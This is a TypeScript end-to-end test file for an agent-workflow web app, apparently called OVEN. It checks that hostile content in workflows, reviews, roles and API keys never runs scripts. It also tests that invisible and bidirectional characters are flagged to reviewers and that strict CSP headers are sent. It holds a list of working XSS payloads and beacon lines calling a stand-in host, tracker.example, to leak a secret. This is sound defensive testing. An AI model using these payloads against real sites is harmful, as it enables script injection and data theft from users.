import { type ModelServer, startModelServer } from "@oven/testing";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openBrowser, shoot, type TestBrowser } from "./browser.ts";
import { type OvenProcess, startOven } from "./oven-process.ts";

const RUN = "window.hostile=(window.hostile||0)+1";

/** What has run scripts in pages before: markup, Markdown, templates, addresses. */
const HOSTILE = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `"><img src=x onerror="${RUN}">`,
  `'-(${RUN})-'`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<a href="javascript:${RUN}">anchor</a>`,
  `[link](javascript:${RUN.replaceAll(/[()]/g, "")})`,
  `[link](java\nscript:alert)`,
  `[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT0xPC9zY3JpcHQ+)`,
  `![picture](https://tracker.example/leak?secret=1)`,
  `![x](x" onerror="${RUN})`,
  `<javascript:${RUN}>`,
  "```html\n<script>window.hostile=1</script>\n```",
  `{{constructor.constructor("${RUN}")()}}`,
  ["$", "{", RUN, "}"].join(""),
  `<style>@import "https://tracker.example/x.css";</style>`,
  `<base href="https://tracker.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://tracker.example/">`,
  `<link rel="stylesheet" href="https://tracker.example/x.css">`,
  `<form action="https://tracker.example/"><button>go</button></form>`,
];
const ALL = HOSTILE.join("\n\n");
/** Of a page that a person may open, who then leaves nothing behind there. */
const ADDRESS = "https://tracker.example/page?id=7";

/** What would stand in the page if something put it there unescaped. */
const STANDING = `<img src=x onerror="${RUN}"><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>
<svg onload="${RUN}"></svg><a id="bait" href="javascript:${RUN}">bait</a>`;

/** Opens every tab and every folded part there is at this moment: lists that load meanwhile replace some of them. */
const OPEN_EVERYTHING = `(async () => {
  for (const selector of ["[role=tab]", "summary"]) {
    for (const element of document.querySelectorAll(selector)) {
      if (element.checkVisibility()) element.click();
      await new Promise((done) => setTimeout(done, 50));
    }
  }
})()`;

/** The elements that show a character which nobody sees; empty labels of controls have one of their own. */
const UNSEEN = `[...document.body.querySelectorAll("*")]
  .filter((element) => !element.matches("script, style, textarea, .notranslate"))
  .filter((element) => [...element.childNodes].some((node) => node.nodeType === 3 && /[\\u202a-\\u202e\\u200b]/.test(node.data)))
  .map((element) => element.outerHTML.slice(0, 200))`;

interface Trial {
  hostile: number;
  violations: string[];
}

describe("hostile content in the browser", () => {
  let oven: OvenProcess;
  let models: ModelServer;
  let chromium: TestBrowser;
  let page: Page;
  const foreign: string[] = [];

  beforeAll(async () => {
    models = await startModelServer([
      { text: ALL, toolCalls: [{ name: "orders_policy", arguments: { topic: ALL } }] },
      { text: ALL },
    ]);
    oven = await startOven({ bootstrap: false, env: { OPENAI_BASE_URL: models.url, OPENAI_API_KEY: "test" } });
    chromium = await openBrowser();
    ({ page } = await chromium.newPage());
    page.on("request", (request) => {
      if (!request.url().startsWith(oven.url) && !request.url().startsWith("data:")) foreign.push(request.url());
    });
    await page.addInitScript(`
      window.violations = [];
      document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
        window.violations.push(violatedDirective + " " + blockedURI));
    `);
    await page.goto(oven.setupUrl ?? "");
    await page.getByLabel("Name").fill(`Eve ${HOSTILE[1]}`);
    await page.getByLabel("E-mail").fill("eve@example.com");
    await page.getByLabel("Password").fill("correct horse battery");
    await page.getByRole("button", { name: "Create admin account" }).click();
    await page.getByRole("heading", { name: "Welcome to OVEN" }).waitFor();
  });
  afterAll(async () => {
    await chromium?.close();
    await oven?.kill("SIGKILL");
    await models?.close();
  });

  async function send(method: string, path: string, body: object): Promise<{ id: number }> {
    const response = await page.request.fetch(`${oven.url}/api/${path}`, {
      method,
      data: body,
      headers: { origin: oven.url },
    });
    expect(response.ok(), await response.text()).toBe(true);
    return response.json();
  }

  /** What came of it, on the page as it is. */
  const trial = () =>
    page.evaluate("({ hostile: window.hostile ?? 0, violations: window.violations })") as Promise<Trial>; // cast: as evaluated

  it("of models, tools, people and workflows runs nowhere, and nothing even tries", async () => {
    const name = `Mail ${HOSTILE[1]} ${HOSTILE[0]}`;
    const workflow = await send("POST", "agent-workflows", {
      name,
      slug: "hostile",
      description: ALL,
      mcpExport: true,
      definition: {
        initial: "answer",
        agentConfig: { model: "openai:test-model", system: ALL },
        states: {
          answer: {
            label: HOSTILE[2],
            invoke: {
              src: "agent.toolLoop",
              input: { prompt: "{{ $.trigger.message }}", tools: ["orders.policy"] },
              onDone: "review",
            },
          },
          review: {
            label: HOSTILE[1],
            invoke: {
              src: "agent.humanReview",
              input: {
                title: HOSTILE[14],
                show: "$.text",
                context: { message: "$.trigger.message", tools: "$.toolResults", page: ADDRESS },
              },
              onDone: "broken",
            },
          },
          broken: { type: "final", output: { reply: "$.review_output.data", link: HOSTILE[19] } },
        },
      },
    });
    const run = await send("POST", "agent-workflows/hostile/execute?wait=20", { input: { message: ALL } });
    const reviews = await (await page.request.get(`${oven.url}/api/reviews`)).json();
    await send("POST", `reviews/${reviews[0].id}/comments`, { text: ALL });
    await send("POST", "roles", {
      name: "hostile",
      title: HOSTILE[1],
      description: HOSTILE.slice(0, 8).join(" "),
      permissions: ["workflows.read"],
    });
    await send("POST", "api-keys", { name: "<img src=x onerror=hostile=1>", permissions: ["workflows.read"] });
    const pages: [string, string][] = [
      ["", "Mail"],
      ["agent-workflows", "Mail"],
      [`agent-workflows/${workflow.id}/show`, "Mail"],
      [`agent-workflows/${workflow.id}`, "Mail"],
      ["agent-workflow-executions", "Mail"],
      [`agent-workflow-executions/${run.id}/show`, "Mail"],
      ["reviews", "onerror"],
      [`reviews/${reviews[0].id}`, "onerror"],
      ["mcp-servers", "Mail"],
      ["users", "Eve"],
      ["roles", "hostile"],
      ["api-keys", "onerror"],
      ["audit-log", "Eve"],
      ["account", "Eve"],
    ];
    for (const [path, text] of pages) {
      await page.goto(`${oven.url}/${path}`);
      await page.getByText(text).first().waitFor();
      await page.evaluate(OPEN_EVERYTHING);
      expect({ path, ...(await trial()) }).toEqual({ path, hostile: 0, violations: [] });
      const links = (await page.evaluate(
        "[...document.querySelectorAll('a[href]')].map((link) => link.getAttribute('href'))",
      )) as string[]; // cast: as evaluated
      expect(links.filter((href) => /^\s*(javascript|data|vbscript):/i.test(href))).toEqual([]);
      if (!path.startsWith("reviews/")) continue;
      const link = page.getByRole("link", { name: ADDRESS });
      expect([await link.getAttribute("href"), await link.getAttribute("rel")]).toEqual([
        ADDRESS,
        "noopener noreferrer",
      ]);
    }
    await page.goto(`${oven.url}/agent-workflow-executions/${run.id}/show`);
    await page.getByRole("tab", { name: /Messages|Conversation/ }).click();
    await shoot(page, "hostile-conversation");
    await send("POST", `agent-workflow-executions/${run.id}/resume`, {
      action: "approve",
      reviewId: reviews[0].id,
      digest: reviews[0].digest,
    });
    await page.goto(`${oven.url}/agent-workflow-executions/${run.id}/show`);
    await page.getByText("Result").first().waitFor();
    expect(await trial()).toEqual({ hostile: 0, violations: [] });
    expect(foreign).toEqual([]);
  });

  it("that is not seen or passes for other text stands as marks wherever it is read, and the reviewer is warned", async () => {
    const bidi = "p\u0430y \u202Emoc.elpmaxe@ecila\u202C now\u200b";
    const marked = "p⟨U+0430⟩y ⟨U+202E⟩moc.elpmaxe@ecila⟨U+202C⟩ now⟨U+200B⟩";
    const ask = { src: "agent.humanReview", input: { title: bidi, show: "$.trigger" }, onDone: "done" };
    const workflow = await send("POST", "agent-workflows", {
      name: bidi,
      slug: "unseen",
      definition: {
        initial: "ask",
        states: { ask: { label: bidi, invoke: ask }, done: { type: "final", label: bidi } },
      },
    });
    const run = await send("POST", "agent-workflows/unseen/execute?wait=20", { input: { to: bidi } });
    const reviews: { id: number; executionId: number; digest: string }[] = await (
      await page.request.get(`${oven.url}/api/reviews`)
    ).json();
    const review = reviews.find(({ executionId }) => executionId === run.id);
    if (review === undefined) throw new Error(`run ${run.id} has no review`);
    for (const path of [
      "agent-workflows",
      `agent-workflows/${workflow.id}`,
      `agent-workflow-executions/${run.id}/show`,
      "reviews",
      `reviews/${review.id}`,
    ]) {
      await page.goto(`${oven.url}/${path}`);
      await page.getByText(marked).filter({ visible: true }).first().waitFor();
      expect({ path, unseen: await page.evaluate(UNSEEN) }).toEqual({ path, unseen: [] });
    }
    await page.getByText("characters that are not seen").waitFor();
    await shoot(page, "review-invisible-characters");
    // What is decided is what was proposed, not what was shown.
    await send("POST", `reviews/${review.id}/decide`, { action: "approve", digest: review.digest });
    await expect
      .poll(
        async () =>
          (await (await page.request.get(`${oven.url}/api/agent-workflow-executions/${run.id}`)).json()).status,
      )
      .toBe("completed");
    const { context } = await (await page.request.get(`${oven.url}/api/agent-workflow-executions/${run.id}`)).json();
    expect(JSON.stringify(context ?? "")).not.toContain("⟨U+202E⟩");
  });

  it("would not run, even if it stood in the page", async () => {
    await page.goto(`${oven.url}/agent-workflows`);
    await page.getByText("Mail").first().waitFor();
    const elsewhere = await page.evaluate(`(async () => {
      const box = document.body.appendChild(document.createElement("div"));
      box.innerHTML = ${JSON.stringify(STANDING)};
      document.getElementById("bait").click();
      const answer = await fetch("https://tracker.example/").then(() => "reached", () => "refused");
      return answer;
    })()`);
    expect(elsewhere).toBe("refused");
    await expect.poll(async () => (await trial()).violations.length).toBeGreaterThanOrEqual(3);
    expect((await trial()).hostile).toBe(0);
  });

  it("is kept out by headers that each page has, with a nonce of its own", async () => {
    const nonces = new Set<string>();
    for (const path of ["", "login", "agent-workflows", "no/such/page"]) {
      const response = await fetch(`${oven.url}/${path}`);
      const policy = response.headers.get("content-security-policy") ?? "";
      const [, nonce = ""] = /script-src 'nonce-([^']+)' 'strict-dynamic'(?:;|$)/.exec(policy) ?? [];
      expect(nonce.length).toBeGreaterThan(20);
      expect(await response.text()).toContain(`nonce="${nonce}"`);
      nonces.add(nonce);
      expect(policy).not.toContain("unsafe-");
      expect(policy).toContain("frame-ancestors 'none'");
      expect(Object.fromEntries(response.headers)).toMatchObject({
        "x-content-type-options": "nosniff",
        "x-frame-options": "DENY",
        "referrer-policy": "same-origin",
        "cross-origin-opener-policy": "same-origin",
      });
      expect(response.headers.get("cache-control")).toMatch(/no-store|no-cache/);
    }
    expect(nonces.size).toBe(4);
  });
});
